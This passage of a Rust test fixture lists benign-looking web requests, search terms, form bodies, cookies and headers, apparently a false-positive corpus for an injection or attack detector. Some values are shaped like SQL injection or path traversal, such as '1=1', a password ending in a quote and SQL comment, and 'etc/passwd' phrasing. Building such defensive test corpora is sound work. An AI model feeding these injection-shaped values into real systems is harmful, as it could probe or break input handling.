    Target("/r?url=https%3A%2F%2Fexample.com%2Fa%2Fb.php%3Fid%3D7%26x%3Dy%23top"),
    Target("/img?w=100&h=100&fit=crop&src=https://cdn.example/a.jpg"),
    Target("/api/items?fields=id,name,price&where=price>10&limit=50"),
    Target("/graphql?query=%7Buser(id%3A%221%22)%7Bname%20posts%7Btitle%7D%7D%7D"),
    Target("/saml?SAMLRequest=fVLLTsMwELwj8Q%2BW782jD2itJqgUISrxiGjgwG3rbFpHjh28TgF%2FD"),
    Target(
        "/jwt?token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    ),
    Target("/%E6%97%A5%E6%9C%AC%E8%AA%9E/%E3%83%9A%E3%83%BC%E3%82%B8"),
    Target("/calendar?from=2024-01-01T00:00:00%2B01:00&to=2024-02-01"),
    Target("/map?bbox=-0.1,51.4,0.1,51.6&zoom=12"),
    Target("/a/b/c.min.js?v=1.2.3-rc.1+build.5"),
    Target("/wp-admin/admin-ajax.php?action=heartbeat"),
    Target("/index.php?option=com_content&view=article&id=12:title&catid=3"),
    Target("/fonts/roboto.woff2?#iefix"),
    Search("O'Brien's \"Irish\" pub"),
    Search("how to use union and intersect in sets"),
    Search("select a gift or order by phone"),
    Search("javascript alert box"),
    Search("<div> vs <span>"),
    Search("a && b || c"),
    Search("cat food; dog food"),
    Search("rock & roll -- the 50's"),
    Search("50% off or more"),
    Search("price < 100 and size = 5"),
    Search("1=1"),
    Search("drop shipping / table tops"),
    Search("etc/passwd explained"),
    Search("../ in a path"),
    Search("what is localhost:8080"),
    Search("where 1 or 2 people sleep (tent)"),
    Search("Müller's Käse & Brötchen"),
    Search("insert into slot; update drivers; delete cookies"),
    Search("it's 5 o'clock and I'm 'ready'"),
    Search("if i like 'a' or 'b'"),
    Arg("ann.o'hara+news@example.com"),
    Arg("+49 (0)30 1234-567"),
    Arg("P@ssw0rd'; --#1"),
    Arg("https://example.com/a?b=c&d=e"),
    Arg("http://localhost:3000/callback"),
    Arg("2024-01-01 00:00:00"),
    Arg(
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
    ),
    Arg("data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4="),
    Arg("#ff00aa"),
    Arg("[1,2,3]"),
    Arg("{\"a\":[1,2,{\"b\":null}],\"c\":\"it's\"}"),
    Arg("a:3:{i:0;s:1:\"a\";i:1;s:1:\"b\";i:2;s:1:\"c\";}"),
    Arg("SKU-123/45 'A'"),
    Arg("1 OR 2"),
    Arg("yes and no"),
    Arg("C:\\Users\\Ann\\Documents\\x.docx"),
    Arg("C:\\fakepath\\photo.jpg"),
    Arg("/home/page"),
    Arg("-1"),
    Arg("' "),
    Arg("\"quoted\""),
    Arg("(555) 123-4567"),
    Arg("$100 {net}"),
    Arg("%{name}"),
    Arg("*.txt"),
    Arg("~/notes"),
    Arg("100%"),
    Form(
        "# Title\n\nSome *text* with `code`, a [link](https://example.com/a_(b)?x=1#y) and\n\n```rust\nfn main() { println!(\"{}\", 1 << 2); }\n```\n\n- one\n- two -- and three\n\n> a quote; it's short\n\n| a | b |\n|---|---|\n| 1 | 2 |",
    ),
    Form("for (int i = 0; i < n; i++) { if (a[i] > max || !found) { max = a[i]; } }"),
    Form("$('#id').on('click', function () { $(this).toggle(); });"),
    Form("const f = async (x) => { const r = await fetch(`/api/${x.id}`); return r.json(); };"),
    Form("#!/bin/bash\nset -e\nfor f in *.txt; do\n  echo \"$f\"\ndone\n"),
    Form("def f(x):\n    return [y * 2 for y in x if y > 0]\n"),
    Form("git commit -m 'fix' && git push; then ls and see"),
    Form("body { margin: 0; } .a > .b::after { content: '\\201C'; }"),
    Form("{{ title }} -- {{ page.date | date: '%Y' }}"),
    Form(
        "<p>Hello <strong>world</strong> <em>it's</em> <a href=\"https://example.com/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener\" title=\"x\">link</a><br/><img src=\"/a.png\" alt=\"on error\" style=\"width:100%\"></p><table class=\"t\"><tr><td>1</td></tr></table><ul><li>a</li></ul>",
    ),
    Form(
        "Dear Sir or Madam,\r\n\r\nI'd like to order 2 'large' & 1 \"small\" (or 3); please ship to:\r\nAnn O'Hara\r\n12 King's Rd.\r\n\r\nThanks -- Ann",
    ),
    Form("He said: \"I can't and won't\"; she replied 'ok' or 'no' = same."),
    Form("Select the union member from the list where the group by the door likes to order by 5."),
    Form("ids: 1, 2, 3; names: 'a', 'b'; total = 5 > 4 and 3 < 6"),
    Form("E = mc^2; a^2 + b^2 = c^2 (1 or 2)"),
    Form("Order #12345 -- is it shipped? /Bob"),
    Form("http://example.com/a/../b is the same as http://example.com/b"),
    Form("mysql -u root -p mydb < dump.sql"),
    Form("INFO 2024-01-01 at org.example.App: started in 5 ms"),
    Form("Exec summary: the system (v2) will import data; include (all) files"),
    Form("www.example.com | 10.0.0.1 | more"),
    Form("The file is in /etc, under ssh; look at sshd_config"),
    Form("if [ -f /tmp/x ]; then cat /tmp/x; fi"),
    Form("Wir möchten 3 Stück à 5 € (zzgl. MwSt.) -- oder 4?"),
    Form("日本語のテキスト「引用」；終わり"),
    Form("😀 emoji & more <3"),
    Json(
        r#"{"query":"query Q($id: ID!) { user(id: $id) { name ... on Admin { level } } }","variables":{"id":"1"}}"#,
    ),
    Json(
        r#"{"@context":"https://schema.org","@type":"Product","name":"O'Neill \"Wave\" 5'","offers":{"price":"10.00"}}"#,
    ),
    Json(r#"[{"op":"replace","path":"/a/b","value":"it's"},{"op":"remove","path":"/c"}]"#),
    Json(
        r#"{"html":"<p>Hello <b>x</b></p>","css":"a{color:red}","n":null,"t":true,"e":"a@b.example"}"#,
    ),
    Json(r#"{"filter":{"and":[{"age":{"gt":18}},{"name":{"like":"O'%"}}]},"order":["-id"]}"#),
    Json(
        r#"{"events":[{"type":"click","ts":1700000000000,"url":"https://a.example/?x=1","ua":"Mozilla/5.0"}]}"#,
    ),
    Json(r#"{"code":"function add(a, b) { return a + b; }","lang":"js"}"#),
    Body(
        "application/x-www-form-urlencoded",
        "_token=Yx12%2Fab%3D&items%5B0%5D%5Bid%5D=1&items%5B0%5D%5Bqty%5D=2&note=it%27s+ok",
    ),
    Body("text/plain", "Just a text; with & all 'sorts' of -- signs."),
    Body("application/octet-stream", "PK\u{3}\u{4} some bytes \u{0} and more"),
    File("report 2024 (final).xlsx"),
    File("archive.tar.gz"),
    File("foo.bar.baz.zip"),
    File("naïve – copy.png"),
    Cookie("eyJpdiI6IjEyMyIsInZhbHVlIjoiYWJjIn0%3D"),
    Cookie("GA1.2.1234567890.1700000000"),
    Cookie("%7B%22consent%22%3Atrue%2C%22v%22%3A%222%22%7D"),
    Cookie("s%3Aabc.def%2Fghi%2Bjkl"),
    Fields(&[
        ("Cookie", "a=1; b=\"x y\"; _ga=GA1.1.1.1; theme=dark"),
        ("Referer", "https://www.google.com/search?q=o%27reilly+select+union"),
    ]),
    Field("Referer", "https://shop.example/a?b=c&d=%2Fe%2F..%2Ff"),
    Field(
        "User-Agent",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1",
    ),
    Field("User-Agent", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
    Field("Authorization", "Bearer eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJodHRwczovL2EifQ.c2ln"),
    Field("If-None-Match", "W/\"abc-123\", \"def\""),
    Field("Accept-Language", "en-GB,en;q=0.9,de;q=0.8"),
    Field("X-Requested-With", "XMLHttpRequest"),
    Field("Sec-CH-UA", "\"Chromium\";v=\"120\", \"Not;A=Brand\";v=\"8\""),
    Field("traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"),
    Answer(
        200,
        "<html><body><h1>Welcome</h1><p>Warning: contents may be hot. on line 3</p></body></html>",
    ),
    Answer(404, "<html><body><h1>Not Found</h1></body></html>"),
    Answer(500, "{\"error\":\"internal\",\"id\":\"abc\"}"),
];
